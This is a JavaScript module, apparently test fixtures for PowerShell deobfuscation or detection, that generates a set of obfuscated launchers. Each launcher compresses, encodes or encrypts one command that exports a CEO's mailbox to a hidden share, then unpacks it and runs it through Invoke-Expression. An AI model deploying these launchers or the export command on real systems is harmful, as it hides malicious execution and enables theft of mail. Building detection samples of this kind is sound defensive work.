/**
 * Launchers: scripts that unpack a compressed or encrypted call and run it, each in a form of its own, as PowerShell 7.6.9 ran them; those
 * with `PtrToStringAuto` run on Windows alone, where it reads UTF-16.
 */
import { createCipheriv } from "node:crypto";
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";

/** The call that they unpack. */
export const PACKED = "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\srv01\\pst$\\ceo.pst";

const base64 = (bytes) => bytes.toString("base64");
const deflated = base64(deflateRawSync(PACKED));
const gzipped = base64(gzipSync(PACKED));
const zlibbed = base64(deflateSync(PACKED));
const wide = base64(gzipSync(Buffer.from(PACKED, "utf16le")));
const numbers = [...gzipSync(PACKED)].join(",");
const DECOMPRESS = "[IO.Compression.CompressionMode]::Decompress";

/** What ConvertFrom-SecureString makes of a text with a key of 16, 24 or 32 bytes, with the initialization vector that it would choose. */
export function encrypted(text, key, vector = Buffer.alloc(16, 7)) {
  const cipher = createCipheriv(`aes-${key.length * 8}-cbc`, key, vector);
  const bytes = Buffer.concat([cipher.update(Buffer.from(text, "utf16le")), cipher.final()]);
  return sealed(`2|${base64(vector)}|${bytes.toString("hex")}`);
}

/** Fields in the form that ConvertTo-SecureString reads. */
export const sealed = (fields) => `76492d1116743f0423413b16050a5345${base64(Buffer.from(fields, "utf16le"))}`;

const count = (from, to) =>
  Buffer.from(Array.from({ length: Math.abs(to - from) + 1 }, (_, i) => from + Math.sign(to - from) * i));
const MARSHAL = "[Runtime.InteropServices.Marshal]";
const numbered = count(40, 55);

/** Scripts that hide the call in a SecureString. */
export const SECRETS = [
  `IEX( ( ${MARSHAL}::PtrToStringAuto( ${MARSHAL}::SecureStringToBSTR( $('${encrypted(PACKED, count(1, 24))}' | ConvertTo-SecureString -k (1..24)) ) ) ) )`,
  `(${MARSHAL}::PtrToStringUni(${MARSHAL}::SecureStringToGlobalAllocUnicode($('${encrypted(PACKED, numbered)}' | ConvertTo-SecureString -Ke ${[...numbered].join(",")})))) | & ('i'+'ex')`,
  `$k = [byte[]](59..36); $s = ConvertTo-SecureString '${encrypted(PACKED, count(59, 36))}' -Key $k; .('{1}{0}' -f 'ex','i') (New-Object PSCredential 'x', $s).GetNetworkCredential().Password`,
  `[scriptblock]::Create([Net.NetworkCredential]::new('', (ConvertTo-SecureString '${encrypted(PACKED, count(1, 32))}' -Key (1..32))).Password).Invoke()`,
  `$k = ConvertTo-SecureString '12345678' -AsPlainText -Force; $s = ConvertTo-SecureString '${encrypted(PACKED, Buffer.from("12345678", "utf16le"))}' -SecureKey $k; $ExecutionContext.InvokeCommand.InvokeScript((ConvertFrom-SecureString $s -AsPlainText))`,
  `function Open-It([securestring]$s) { $b = ${MARSHAL}::SecureStringToBSTR($s); try { ${MARSHAL}::PtrToStringBSTR($b) } finally { ${MARSHAL}::ZeroFreeBSTR($b) } }
& (Get-Command Invoke-Expression) (Open-It (ConvertTo-SecureString '${encrypted(PACKED, count(0, 15))}' -Key (0..15)))`,
  `$s = New-Object Security.SecureString; foreach ($c in ${[...PACKED].map((c) => c.charCodeAt(0)).join(",")}) { $s.AppendChar($c) }; $s.MakeReadOnly(); iex (New-Object Net.NetworkCredential('', $s)).Password`,
];

export const LAUNCHERS = [
  ...SECRETS,
  `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("${gzipped}"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,${DECOMPRESS}))).ReadToEnd();`,
  `$d=[Convert]::FromBase64String('${gzipped}');$ms=[System.IO.MemoryStream]::new();$ms.Write($d,0,$d.Length);$ms.Seek(0,0)|Out-Null;$g=[System.IO.Compression.GZipStream]::new($ms,${DECOMPRESS});$r=[System.IO.StreamReader]::new($g);$t=$r.ReadToEnd();$r.Close();Invoke-Expression $t`,
  `using namespace System.IO
using namespace System.IO.Compression
$ms = [MemoryStream]::new([Convert]::FromBase64String('${gzipped}'))
$gz = [GZipStream]::new($ms, [CompressionMode]::Decompress)
$out = [MemoryStream]::new()
$gz.CopyTo($out)
$gz.Dispose()
[Text.Encoding]::UTF8.GetString($out.ToArray()) | iex`,
  `$b=[byte[]](${numbers});$in=New-Object System.IO.MemoryStream(,$b);$gz=New-Object System.IO.Compression.GZipStream $in, (${DECOMPRESS});$buf=New-Object byte[] 1024;$out=New-Object System.IO.MemoryStream;while(($n=$gz.Read($buf,0,1024)) -gt 0){$out.Write($buf,0,$n)};&([scriptblock]::Create([Text.Encoding]::ASCII.GetString($out.ToArray())))`,
  `$ms=New-Object System.IO.MemoryStream;$b=[Convert]::FromBase64String('${zlibbed}');$ms.Write($b,0,$b.Length);$ms.Position=0;$null=$ms.ReadByte();$null=$ms.ReadByte();$r=New-Object System.IO.StreamReader((New-Object System.IO.Compression.DeflateStream($ms,${DECOMPRESS})));iex $r.ReadToEnd()`,
  `sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflated}'),${DECOMPRESS})),[Text.Encoding]::ASCII)).ReadToEnd()`,
  `$r=New-Object IO.StreamReader(New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(@(,[Convert]::FromBase64String('${gzipped}')))),${DECOMPRESS})); while(-not $r.EndOfStream){ iex $r.ReadLine() }`,
  `& ([scriptblock]::create((New-Object System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String((('${gzipped}')-f'u')))),${DECOMPRESS}))).ReadToEnd()))`,
  `iex ([IO.StreamReader]::new([IO.Compression.GZipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('${wide}')),${DECOMPRESS}),[Text.Encoding]::Unicode).ReadToEnd())`,
  `function Expand-It { param([byte[]]$Bytes) $i=New-Object System.IO.MemoryStream(,$Bytes); $o=New-Object System.IO.MemoryStream; $g=New-Object System.IO.Compression.GzipStream $i, (${DECOMPRESS}); $g.CopyTo($o); $g.Close(); $i.Close(); [byte[]]$r=$o.ToArray(); return $r }
$t=[Text.Encoding]::UTF8.GetString((Expand-It ([Convert]::FromBase64String('${gzipped}'))))
Invoke-Expression $t`,
  `(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflated}'),${DECOMPRESS}) | % { New-Object IO.StreamReader($_,[Text.Encoding]::ASCII) } | % { $_.ReadToEnd() }) | & ('i'+'ex')`,
  `$g=New-Object IO.Compression.GZipStream([IO.MemoryStream]::new([Convert]::FromBase64String('${gzipped}')),[IO.Compression.CompressionMode]'Decompress');iex (-join([IO.StreamReader]$g).ReadToEnd())`,
  `try { $in=[IO.MemoryStream]::new([Convert]::FromBase64String('${gzipped}')); $g=[IO.Compression.GZipStream]::new($in,${DECOMPRESS}); $sr=[IO.StreamReader]::new($g); $code=$sr.ReadToEnd() } finally { $sr.Dispose(); $g.Dispose(); $in.Dispose() }; iex $code`,
];
